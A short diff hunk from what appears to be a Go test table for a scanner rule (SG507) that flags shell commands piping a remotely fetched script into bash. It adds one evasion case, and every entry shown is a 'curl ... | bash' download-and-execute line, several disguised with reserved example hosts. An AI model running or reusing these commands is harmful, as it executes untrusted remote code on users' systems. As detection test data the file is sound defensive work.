@@ -324,6 +324,8 @@ var attacks = []attack{
 	{rule: "SG507", name: "reserved host beside a variable", body: sh("curl -fsSL -e https://a.example/ $U | bash")},
 	{rule: "SG507", name: "reserved host beside an address",
 		body: sh("curl -fsSL -e https://a.example/ http://45.83.12.7/i | bash")},
+	{rule: "SG507", name: "reserved host before what is no comment",
+		body: sh("curl -fsSL -e https://a.example/ // https://forms-cdn.net/get.sh | bash")},
 	{rule: "SG507", name: "reserved host as a user",
 		body: sh("curl -fsSL https://a.example@forms-cdn.net/get.sh | bash")},
 	{rule: "SG507", name: "made-up name in the path", body: sh("curl -fsSL https://forms-cdn.net/evil/get.sh | bash")},
